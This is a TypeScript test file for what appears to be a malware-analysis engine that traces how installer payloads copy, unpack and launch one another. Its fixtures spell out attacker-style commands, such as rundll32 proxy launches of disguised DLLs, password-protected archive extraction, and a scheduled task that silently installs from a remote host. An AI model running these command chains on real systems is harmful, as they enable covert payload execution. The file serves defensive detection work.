import { describe, expect, it } from 'vitest';
import type { Execution } from '../../src/facts/execution.js';
import { type ExamplePayload, exampleFacts, type RuleExample } from '../../src/rules/example-facts.js';

const executionOf = (example: Omit<RuleExample, 'what'>): Execution =>
  exampleFacts({ what: '', ...example }).execution;

const meaningsOf = (example: Omit<RuleExample, 'what'>) =>
  executionOf(example)
    .commands.filter(({ triggers }) => triggers.length > 0)
    .flatMap(({ meanings }) => meanings);

const batch = (name: string, ...lines: string[]): ExamplePayload => ({
  name,
  type: 'batch',
  script: { commands: lines.map((text, index) => ({ line: index + 1, original: text, text })) },
});

const tool: ExamplePayload = {
  name: 'z.exe',
  type: 'pe-exe',
  pe: {},
  unzipUtility: { family: 'info-zip' },
};
const archive: ExamplePayload = { name: 'kq.zip', type: 'zip', archive: { encryptedEntryCount: 1 } };

describe('copies', () => {
  it('are what they were before, by commands and by tables', () => {
    const fileCopies = [
      {
        table: 'MoveFile' as const,
        id: 'm',
        component: 'c',
        source: 'SystemFolder/rundll32.exe',
        destination: 'X/w.exe',
        isMove: false,
      },
    ];
    const found = meaningsOf({
      runs: ['cmd /c copy /y kq.zip C:\\a.tmp', 'z.exe -o -P x C:\\a.tmp', 'X\\w.exe X\\urlmon.7z,Start'],
      holds: [tool, archive],
      tables: { fileCopies },
    });
    expect(found).toMatchObject([
      { meaning: { kind: 'copy' } },
      { meaning: { kind: 'unpack' }, object: { payload: 2, by: 'copy' } },
      { meaning: { kind: 'start-dll', proxy: 'rundll32', dll: 'X\\urlmon.7z' } },
    ]);
  });

  it('are run as batch files under their new names', () => {
    const found = meaningsOf({
      runs: ['cmd /c copy data17 r.cmd & r.cmd'],
      holds: [batch('data17', 'x.exe /a')],
    });
    expect(found.at(-1)).toMatchObject({ meaning: { kind: 'start-program', program: 'x.exe' } });
  });

  it('end where they lead back to themselves', () => {
    const runs = ['cmd /c copy a.exe b.exe', 'cmd /c copy b.exe a.exe', 'a.exe', 'b.exe'];
    expect(executionOf({ runs }).commands).toHaveLength(4);
  });

  it('of files that are joined from joined files are followed as far as is bounded', () => {
    const join = (target: string, depth: number): string[] => {
      const parts = Array.from({ length: 8 }, (_, n) => `${target}${n}`);
      const here = `cmd /c copy /b ${parts.join('+')} ${target}`;
      return depth === 0 ? [here] : [here, ...parts.flatMap((part) => join(part, depth - 1))];
    };
    const runs = [...join('f', 2), ...Array.from({ length: 3_000 }, (_, n) => `rundll32 f,Start${n}`)];
    expect(executionOf({ runs }).commands).toHaveLength(runs.length);
  });

  it('follow the output of an unzip utility', () => {
    const found = meaningsOf({
      runs: ['cmd /c go.bat'],
      holds: [
        tool,
        archive,
        { name: 'a.dll', in: 'kq.zip', encrypted: true },
        batch('go.bat', 'z.exe -p -P x kq.zip a.dll > q.tmp', 'rundll32 q.tmp,Start'),
      ],
    });
    expect(found.at(-1)).toMatchObject({
      meaning: { kind: 'start-dll', dll: 'q.tmp' },
      object: { payload: 3, by: 'copy' },
    });
  });
});

describe('batch files', () => {
  it('see the arguments that they are started with, when there is one way', () => {
    const holds = [batch('go.bat', 'z.exe -o -P %1 "%~2"', 'echo %3')];
    const [first] = executionOf({ runs: ['cmd /c go.bat s3cret "a b.zip"'], holds }).commands.filter(
      ({ origin }) => origin.kind === 'script',
    );
    expect(first?.text).toBe('z.exe -o -P s3cret "a b.zip"');
    const several = executionOf({ runs: ['cmd /c go.bat a', 'cmd /c go.bat b'], holds }).commands;
    expect(several.map(({ text }) => text)).toContain('z.exe -o -P %1 "%~2"');
  });

  it('are run when another command than the script that writes them does so', () => {
    const holds = [batch('go.bat', 'echo rundll32 a.dll,Start>> r.bat')];
    const kinds = (...runs: string[]) => meaningsOf({ runs, holds }).map(({ meaning }) => meaning.kind);
    expect(kinds('cmd /c go.bat', 'cmd /c r.bat')).toContain('start-dll');
    expect(kinds('cmd /c go.bat')).toEqual(['run-script']);
  });

  it('start what a loop goes through', () => {
    const command = {
      line: 1,
      original: '',
      text: 'rundll32 "%%f",Start',
      condition: 'for %%f in (C:\\x\\*.dll)',
    };
    const holds: ExamplePayload[] = [{ name: 'go.bat', type: 'batch', script: { commands: [command] } }];
    expect(meaningsOf({ runs: ['cmd /c go.bat'], holds }).at(-1)?.meaning).toMatchObject({
      kind: 'start-dll',
      dll: 'C:\\x\\*.dll',
    });
  });
});

describe('launchers', () => {
  const launcher: ExamplePayload = { name: 'viewer.exe', type: 'pe-exe', pe: {} };

  it('run the command line behind their switches', () => {
    const runs = ['viewer.exe /HideWindow /dir "C:\\x\\" rundll32.exe "C:\\x\\a.dat",Start'];
    expect(meaningsOf({ runs, holds: [launcher] }).map(({ meaning }) => meaning)).toMatchObject([
      { kind: 'start-program' },
      { kind: 'start-dll', dll: 'C:\\x\\a.dat' },
    ]);
  });

  it('are not every program that is given the name of another', () => {
    const runs = ['viewer.exe --log out.txt cmd.exe', 'viewer.exe -jar app.jar C:\\Windows\\cmd.exe'];
    expect(meaningsOf({ runs, holds: [launcher] }).map(({ meaning }) => meaning.kind)).toEqual([
      'start-program',
      'start-program',
    ]);
  });
});

describe('unzip utilities', () => {
  it('unpack an archive whatever is missing on the command line', () => {
    const [found] = meaningsOf({ runs: ['z.exe -o -P  kq.zip'], holds: [tool, archive] });
    expect(found).toMatchObject({
      meaning: { kind: 'unpack' },
      program: { payload: 1 },
      object: { payload: 2 },
    });
  });

  it('only look with -l and -t', () => {
    expect(meaningsOf({ runs: ['z.exe -l kq.zip'], holds: [tool, archive] })[0]?.meaning.kind).toBe(
      'start-program',
    );
  });
});

describe('scripts', () => {
  const script = (text: string): ExamplePayload => ({
    name: 'steps.vbs',
    type: 'vbscript',
    script: { type: 'vbscript', text },
  });

  it.each(['Session.DoAction "Idle1"', "Session.DoAction('Idle1')", 'Session.DoAction "Idle" & n'])(
    'run actions by their names: %s',
    (text) => {
      const { commands, edges } = executionOf({
        runs: ['wscript steps.vbs'],
        unscheduled: ['x.exe'],
        holds: [script(text)],
      });
      expect(commands.find(({ text: command }) => command === 'x.exe')?.triggers).toHaveLength(1);
      expect(edges).toContainEqual({ from: 'payload:1', to: 'custom-action:0:Idle1', kind: 'starts' });
    },
  );

  it('do so only when something runs them, and under that name', () => {
    const idle = (text: string, runs: string[]) =>
      executionOf({ runs, unscheduled: ['x.exe'], holds: [script(text)] }).commands.at(-1)?.triggers;
    expect(idle('Session.DoAction "Idle1"', [])).toEqual([]);
    expect(idle('Session.DoAction "Other"', ['wscript steps.vbs'])).toEqual([]);
  });
});

describe('tasks', () => {
  it('are what the XML file says that defines them', () => {
    const holds: ExamplePayload[] = [
      {
        name: 't.xml',
        type: 'xml',
        facts: {
          task: {
            kind: 'scheduled-task',
            name: '\\x',
            command: 'msiexec /q /i http://host.invalid/a',
            intervalInMinutes: 110,
            furtherCommands: ['rundll32 a.dat,Start'],
          },
        },
      },
    ];
    const { commands } = executionOf({ runs: ['schtasks /create /tn Upd /xml C:\\x\\t.xml'], holds });
    expect(commands[0]?.meanings).toMatchObject([
      { meaning: { name: 'Upd', intervalInMinutes: 110 }, object: { payload: 1 } },
    ]);
    expect(commands.slice(1).map(({ origin, text }) => [origin.kind, origin.name, text])).toEqual([
      ['scheduled-task', 'Upd', 'msiexec /q /i http://host.invalid/a'],
      ['scheduled-task', 'Upd', 'rundll32 a.dat,Start'],
    ]);
  });
});
